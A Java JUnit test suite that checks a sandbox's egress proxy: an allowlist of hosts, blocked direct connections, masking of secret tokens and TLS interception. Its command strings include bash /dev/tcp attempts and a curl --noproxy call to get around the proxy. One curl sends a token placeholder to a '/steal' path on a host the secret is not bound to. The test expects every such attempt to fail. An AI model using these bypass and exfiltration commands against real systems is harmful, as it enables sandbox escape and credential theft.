package dev.kavach.backend.process;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.fail;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.kavach.ExecResult;
import dev.kavach.Sandbox;
import dev.kavach.SandboxConfig;
import dev.kavach.audit.AuditEvent;
import dev.kavach.audit.AuditSink;
import dev.kavach.audit.MemoryAuditSink;
import dev.kavach.backend.Availability;
import dev.kavach.backend.Backends;
import dev.kavach.credential.SecretRef;
import dev.kavach.egress.EgressOptions;
import dev.kavach.egress.Resolver;
import dev.kavach.egress.TestCerts;
import dev.kavach.policy.NetworkPolicy;
import dev.kavach.policy.SandboxPolicy;
import dev.kavach.scoring.Scoring;
import dev.kavach.testing.Leftovers;
import dev.kavach.testing.TestOrigin;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The egress proxy as the only way out of a real process sandbox: commands inside run curl, bash
 * and python against origins on the host's loopback, reached under fake names through the proxy's
 * injected resolver. Nothing here touches DNS or any address but loopback and this host's own.
 */
@Timeout(120)
class ProcessEgressTest {
  private static final String SECRET = "ghp_the-real-token-never-in-the-sandbox";

  private final ProcessBackendProvider provider = new ProcessBackendProvider();
  private final MemoryAuditSink audit = AuditSink.inMemory();
  private final List<Sandbox> sandboxes = new ArrayList<>();
  private final List<AutoCloseable> cleanup = new ArrayList<>();
  private TestOrigin api;
  private TestOrigin other;

  @BeforeEach
  void setUp() throws IOException {
    Availability a = provider.probe();
    if (!a.available() && "true".equals(System.getenv("CI"))) {
      fail("process backend must run in CI, but: " + a.reason());
    }
    assumeTrue(a.available(), "process backend unavailable: " + a.reason());
    api = TestOrigin.http("api");
    other = TestOrigin.http("other");
    cleanup.add(api);
    cleanup.add(other);
  }

  @AfterEach
  void nothingLeftBehind() throws Exception {
    for (Sandbox s : sandboxes) {
      s.close();
    }
    for (AutoCloseable c : cleanup) {
      c.close();
    }
    for (Sandbox s : sandboxes) {
      assertThat(Leftovers.processesMatchingAfter(s.id(), 5000))
          .as("processes of " + s.id() + " (the relay names the sandbox in its argv)")
          .isEmpty();
      try (Stream<Path> shm = Files.list(Path.of("/dev/shm"))) {
        assertThat(shm.map(p -> p.getFileName().toString()).filter(n -> n.contains(s.id())))
            .as("egress and run directories of " + s.id())
            .isEmpty();
      }
      String prefix = "kavach-egress-" + s.id() + "-";
      assertThat(
              Thread.getAllStackTraces().keySet().stream()
                  .filter(t -> t.isAlive() && t.getName().startsWith(prefix))
                  .map(Thread::getName))
          .as("egress proxy threads of " + s.id())
          .isEmpty();
    }
  }

  private static EgressOptions.Builder fakeDns() {
    return EgressOptions.builder()
        .resolver(Resolver.fixed(Map.of("api.test", "127.0.0.1", "other.test", "127.0.0.1")))
        // The origins listen on the host's loopback; the test allows that one address.
        .allowAddresses("127.0.0.1/32");
  }

  private Sandbox start(NetworkPolicy net, EgressOptions options, SecretRef... secrets) {
    SandboxConfig.Builder b =
        SandboxConfig.builder()
            .backend("process")
            .policy(SandboxPolicy.minimal().toBuilder().network(net).build())
            .egress(options)
            .auditSink(audit);
    for (SecretRef s : secrets) {
      b.secret(s);
    }
    if (secrets.length > 0) {
      b.credentials(
          name ->
              name.equals("GH_TOKEN")
                  ? Optional.of(SECRET.getBytes(StandardCharsets.UTF_8))
                  : Optional.empty());
    }
    Sandbox s = Sandbox.create(b.build(), Backends.of(List.of(provider)));
    sandboxes.add(s);
    s.start();
    return s;
  }

  private static NetworkPolicy allow(String... hosts) {
    return new NetworkPolicy(true, List.of(hosts), List.of(), List.of());
  }

  private List<AuditEvent> events(String type) {
    return audit.events().stream().filter(e -> e.type().wireName().equals(type)).toList();
  }

  @Test
  void anAllowedHostIsReachableOnlyThroughTheProxy() {
    Sandbox s = start(allow("api.test"), fakeDns().build());
    ExecResult r =
        s.exec(List.of("curl", "-sS", "--max-time", "20", "http://api.test:" + api.port() + "/hi"));
    assertThat(r.stderrText()).isEmpty();
    assertThat(r.stdoutText()).isEqualTo("hello from api GET /hi body=0");
    assertThat(api.seen).hasSize(1);

    assertThat(r.enforcement().namespaces()).contains("net");
    assertThat(r.enforcement().networkIsolated()).isTrue();
    assertThat(r.enforcement().egress()).isNotNull();
    assertThat(r.enforcement().egress().allowedHosts()).containsExactly("api.test");
    assertThat(r.enforcement().notes())
        .anyMatch(n -> n.startsWith("network: only through the egress proxy"));
    assertThat(Scoring.breakdown(r.enforcement()))
        .filteredOn(m -> m.name().equals("network-isolated"))
        .singleElement()
        .satisfies(m -> assertThat(m.counted()).isTrue())
        .satisfies(m -> assertThat(m.why()).contains("egress proxy").contains("api.test"));
    assertThat(events("egress.allowed"))
        .singleElement()
        .satisfies(e -> assertThat(e.details()).containsEntry("host", "api.test"))
        .satisfies(e -> assertThat(e.details()).containsEntry("address", "127.0.0.1"));
  }

  @Test
  void aHostOutsideTheAllowlistIsRefusedWithAReasonTheCommandCanRead() {
    Sandbox s = start(allow("api.test", "*.pypi.test"), fakeDns().build());
    ExecResult r =
        s.exec(
            List.of("curl", "-sS", "--max-time", "20", "http://other.test:" + other.port() + "/x"));
    assertThat(r.stdoutText())
        .isEqualTo(
            "kavach egress: denied: host other.test is not in allowed_hosts [api.test,"
                + " *.pypi.test]\n");
    assertThat(other.seen).isEmpty();
    assertThat(events("egress.denied"))
        .singleElement()
        .satisfies(e -> assertThat(e.details()).containsEntry("rule", "allowed_hosts"));
  }

  @Test
  void directConnectionsAroundTheProxyFail() throws Exception {
    Sandbox s = start(allow("api.test"), fakeDns().build());
    String hostAddress = nonLoopbackAddress();
    // bash's /dev/tcp does a plain connect(2); each attempt must fail with the kernel's reason.
    String script =
        "for t in 127.0.0.1/"
            + api.port()
            + (hostAddress == null ? "" : " " + hostAddress + "/" + api.port())
            + " 10.0.0.1/80 1.1.1.1/443; do"
            + "  if (exec 3<>/dev/tcp/${t%/*}/${t#*/}) 2>/tmp/err; then echo \"$t CONNECTED\";"
            + "  else echo \"$t $(sed 's/.*: //' /tmp/err)\"; fi; done;"
            + " curl -sS --noproxy '*' --max-time 5 http://api.test:"
            + api.port()
            + "/direct; echo \"curl exit $?\"";
    ExecResult r = s.exec(List.of("bash", "-c", script));
    String out = r.stdoutText() + r.stderrText();
    // The sandbox's own loopback has nothing on that port: the host's listener is not there.
    assertThat(out).contains("127.0.0.1/" + api.port() + " Connection refused");
    if (hostAddress != null) {
      assertThat(out).contains(hostAddress + "/" + api.port() + " Network is unreachable");
    }
    assertThat(out).contains("10.0.0.1/80 Network is unreachable");
    assertThat(out).contains("1.1.1.1/443 Network is unreachable");
    assertThat(out).doesNotContain("CONNECTED");
    // Without the proxy there is not even name resolution.
    assertThat(out).contains("Could not resolve host: api.test").contains("curl exit 6");
    assertThat(api.seen).isEmpty();
  }

  @Test
  void theCommandSeesOnlyAPlaceholderThatWorksForTheBoundHostOnly() {
    Sandbox s =
        start(
            allow("api.test", "other.test"),
            fakeDns().build(),
            SecretRef.proxy("GH_TOKEN", "GH_TOKEN", "api.test"));
    ExecResult env = s.exec(List.of("sh", "-c", "env; cat /proc/self/environ"));
    assertThat(env.stdoutText()).doesNotContain(SECRET).contains("GH_TOKEN=kavach-placeholder-");

    ExecResult ok =
        s.exec(
            List.of(
                "sh",
                "-c",
                "curl -sS --max-time 20 -H \"Authorization: Bearer $GH_TOKEN\" http://api.test:"
                    + api.port()
                    + "/echo-auth -D -"));
    assertThat(api.seen.get(0).header("Authorization")).isEqualTo("Bearer " + SECRET);
    // The origin reflected the header; the sandbox still sees the placeholder only.
    assertThat(ok.stdoutText())
        .doesNotContain(SECRET)
        .contains("X-seen-authorization: Bearer kavach-placeholder-");

    ExecResult refused =
        s.exec(
            List.of(
                "sh",
                "-c",
                "curl -sS --max-time 20 -H \"X-Api-Key: $GH_TOKEN\" http://other.test:"
                    + other.port()
                    + "/steal"));
    assertThat(refused.stdoutText())
        .startsWith(
            "kavach egress: denied: the request carries the placeholder of secret GH_TOKEN, which"
                + " may only be sent to [api.test]");
    assertThat(other.seen).isEmpty();
    assertThat(events("egress.denied"))
        .singleElement()
        .satisfies(e -> assertThat(e.details()).containsEntry("rule", "secret_binding"));
    assertThat(events("egress.allowed").get(0).details())
        .containsEntry("secrets", List.of("GH_TOKEN"));
    for (AuditEvent e : audit.events()) {
      assertThat(e.toJson()).doesNotContain(SECRET);
    }
    assertThat(ok.enforcement().egress().maskedSecrets()).containsExactly("GH_TOKEN -> [api.test]");
  }

  @Test
  void tlsToTheBoundHostIsInterceptedWithACaOnlyThisSandboxTrusts() throws Exception {
    TestCerts upstream = TestCerts.authority("origin");
    TestOrigin secure = TestOrigin.https("secure", upstream.server("api.test"));
    cleanup.add(secure);
    String url = "https://api.test:" + secure.port();
    Sandbox s =
        start(
            allow("api.test"),
            fakeDns().upstreamTls(upstream.trustingOnlyThis()).build(),
            SecretRef.proxy("GH_TOKEN", "GH_TOKEN", "api.test:" + secure.port()));
    // curl finds the bundle through CURL_CA_BUNDLE, Python through SSL_CERT_FILE.
    ExecResult r =
        s.exec(
            List.of(
                "sh",
                "-c",
                "curl -sS --max-time 20 -H \"Authorization: token $GH_TOKEN\" "
                    + url
                    + "/curl && echo && python3 -c \"import os, urllib.request as u;"
                    + " q = u.Request('"
                    + url
                    + "/python', headers={'Authorization': 'token ' + os.environ['GH_TOKEN']});"
                    + " print(u.urlopen(q, timeout=20).read().decode())\""));
    assertThat(r.stderrText()).isEmpty();
    assertThat(r.stdoutText())
        .isEqualTo("hello from secure GET /curl body=0\nhello from secure GET /python body=0\n");
    assertThat(secure.seen)
        .extracting(x -> x.header("Authorization"))
        .containsExactly("token " + SECRET, "token " + SECRET);

    // Without the bundle the same client refuses the intercepted certificate.
    ExecResult untrusting =
        s.exec(
            List.of(
                "sh",
                "-c",
                "CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt curl -sS --max-time 20 "
                    + url
                    + "/x"));
    assertThat(untrusting.exitCode()).isEqualTo(60);
    assertThat(secure.seen).hasSize(2);
  }

  private static String nonLoopbackAddress() throws IOException {
    for (NetworkInterface nif : Collections.list(NetworkInterface.getNetworkInterfaces())) {
      for (InetAddress a : Collections.list(nif.getInetAddresses())) {
        if (a instanceof Inet4Address && !a.isLoopbackAddress()) {
          return a.getHostAddress();
        }
      }
    }
    return null;
  }
}
